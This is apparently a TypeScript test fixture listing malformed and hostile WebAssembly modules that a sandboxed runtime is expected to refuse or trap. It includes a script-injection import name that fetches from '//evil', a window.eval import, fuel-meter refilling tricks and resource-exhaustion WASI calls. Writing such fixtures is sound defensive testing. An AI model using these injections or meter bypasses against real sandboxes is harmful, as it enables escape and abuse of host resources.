import { concatBytes } from '../kernel/bytes.ts'
import { call, drop, exportOf, i32, i32Type, importFunction, loop, nameBytes, section } from './assembler.ts'
import {
  bytes,
  calling,
  damaged,
  feature,
  type Hostile,
  memory,
  program,
  start,
  types,
  withHead,
} from './hostile-parts.ts'

const files: readonly Hostile[] = [
  damaged('text', 'passes a text off as a program', () => Uint8Array.from(nameBytes('<script>alert(1)</script>'))),
  damaged('half a header', 'ends in the middle of the first word', () => bytes(0x00, 0x61, 0x73)),
  damaged('another version', 'says that it is of a version to come', () =>
    bytes(0x00, 0x61, 0x73, 0x6d, 0x02, 0, 0, 0),
  ),
  damaged('endless section', 'names a section that ends past the file', () =>
    withHead(bytes(1, 0xff, 0xff, 0xff, 0xff, 0x0f)),
  ),
  damaged('two codes', 'has the same section twice', () =>
    concatBytes([program([])(), section(10, [bytes(1, 2, 0, 0x0b)])]),
  ),
  damaged('endless number', 'writes a length in more bytes than a number has', () =>
    withHead(bytes(1, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0)),
  ),
  damaged('huge count', 'says that it has four thousand million functions', () =>
    withHead(section(1, [bytes(1, ...types[0]!)]), section(3, [bytes(0xff, 0xff, 0xff, 0xff, 0x0f)])),
  ),
  damaged('no bodies', 'declares functions without bodies', () =>
    withHead(section(1, [bytes(1, ...types[0]!)]), section(3, [bytes(1, 0)])),
  ),
  damaged('values from nowhere', 'adds two numbers that are not there', program([0x6a, drop])),
  damaged('wild branch', 'jumps to a place outside its function', program([0x0c, 9])),
  damaged('unknown operator', 'uses an operator that no one defined', program([0xf0])),
]

const refill = [0x42, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x3f] // i64.const of a great many units

/** They name what the meter puts behind their own things. */
const meddling: readonly Hostile[] = [
  feature('refilling', 'gives itself fuel by the index of the counter', program(loop(...refill, 0x24, 0, ...call(0)))),
  feature('refilling a copy', 'gives itself fuel in a local value that it has not', program(loop(...refill, 0x21, 0))),
  feature('charging', 'calls what charges it, with a number of its own', program([...i32(-1), ...call(1)])),
  feature(
    'typed references',
    'hides its code behind a type that is longer than a meter may think',
    program([0xd0, 0x70, 0xd0, 0x70, ...i32(0), 0x1c, 1, 0x63, 0x00, drop, ...loop()]),
  ),
]

const features: readonly Hostile[] = [
  feature('shared memory', 'asks for memory that two threads share', program([], { memories: [[3, 1, 2]] })),
  feature(
    'atomics',
    'waits for another thread for ever',
    program([...i32(0), ...i32(0), 0x42, 0x7f, 0xfe, 0x01, 2, 0, drop]),
  ),
  feature('64-bit memory', 'asks for memory beyond four gigabytes', program([], { memories: [[4, 1]] })),
  feature(
    'two memories',
    'hides a second memory',
    program([], {
      memories: [
        [0, 1],
        [0, 60_000],
      ],
    }),
  ),
  feature('exceptions', 'catches whatever would end it', program([0x06, 0x40, ...loop(), 0x19, 0x0b])),
  feature('tags', 'declares exceptions of its own', () =>
    withHead(section(1, [bytes(1, ...types[0]!)]), section(13, [bytes(1, 0, 0)])),
  ),
  feature('tail calls', 'calls on without coming back', program([0x12, 0])),
  feature('garbage', 'fills the engine’s heap, which no memory limit bounds', program([0xfb, 0x00, 0x00, drop])),
  feature(
    'relaxed vectors',
    'computes what differs from machine to machine',
    program([...i32(0), 0xfd, 0x0f, ...i32(0), 0xfd, 0x0f, 0xfd, 0x80, 0x02, drop]),
  ),
]

const reaches: readonly Hostile[] = [
  {
    name: 'foreign import',
    tries: 'asks the page for a function of its own',
    bytes: calling([], [], { imports: [importFunction('window', 'eval', 0)] }),
    ends: ['import-not-allowed'],
  },
  {
    name: 'script in a name',
    tries: 'writes a script where a name belongs',
    bytes: calling([], [], { imports: [importFunction('"]});fetch("//evil")//', 'x', 0)] }),
    ends: ['import-not-allowed'],
  },
  {
    name: 'imported memory',
    tries: 'asks for memory of the host',
    bytes: calling([], [], { imports: [[...nameBytes('env'), ...nameBytes('memory'), 2, 0, 1]] }),
    ends: ['import-not-allowed', 'malformed-module'],
  },
  {
    name: 'imported global',
    tries: 'asks to change a value of the host',
    bytes: calling([], [], { imports: [[...nameBytes('env'), ...nameBytes('g'), 3, i32Type, 1]] }),
    ends: ['import-not-allowed'],
  },
  {
    name: 'stolen meter',
    tries: 'exports a meter of its own in place of ours',
    bytes: program([], {
      globals: [[i32Type, 1, 0x41, 0, 0x0b]],
      exports: [start, memory, exportOf('tabmesh:meter', 'global', 0)],
    }),
    ends: ['malformed-module'],
  },
  {
    name: 'no beginning',
    tries: 'has nothing to begin with',
    bytes: program([], { exports: [memory] }),
    ends: ['no-start-export'],
  },
  {
    name: 'hidden memory',
    tries: 'keeps its memory to itself',
    bytes: program([], { exports: [start] }),
    ends: ['no-memory-export'],
  },
  {
    name: 'outside pointer',
    tries: 'has the host read outside its memory',
    bytes: calling([['fd_write', 2]], [...i32(1), ...i32(-16), ...i32(1), ...i32(0), ...call(0), drop]),
    ends: ['harmless', 'trapped'],
  },
  {
    name: 'all addresses',
    tries: 'has the host write a thousand times a gigabyte',
    bytes: calling([['fd_read', 2]], [...i32(0), ...i32(0), ...i32(1_024), ...i32(-4), ...call(0), drop]),
    ends: ['harmless', 'trapped'],
  },
  {
    name: 'endless random',
    tries: 'asks for four gigabytes of chance',
    bytes: calling([['random_get', 3]], [...i32(0), ...i32(-1), ...call(0), drop]),
    ends: ['harmless', 'trapped'],
  },
  {
    name: 'long sleep',
    tries: 'sleeps for a year on a rented thread',
    bytes: calling([['poll_oneoff', 2]], [...i32(64), ...i32(256), ...i32(1), ...i32(512), ...call(0), drop], {
      data: [
        [
          0,
          ...i32(80),
          0x0b,
          24,
          1,
          0,
          0,
          0,
          0,
          0,
          0,
          0,
          0,
          0,
          0x7e,
          0x5c,
          0x8d,
          0x0d,
          0x70,
          0,
          0,
          0,
          0,
          0,
          0,
          0,
          0,
          0,
        ],
      ],
    }),
    ends: ['harmless'],
  },
]

/** Modules that no provider should ever start, or that reach for what is not theirs. */
export const refusedPrograms: readonly Hostile[] = [...files, ...meddling, ...features, ...reaches]
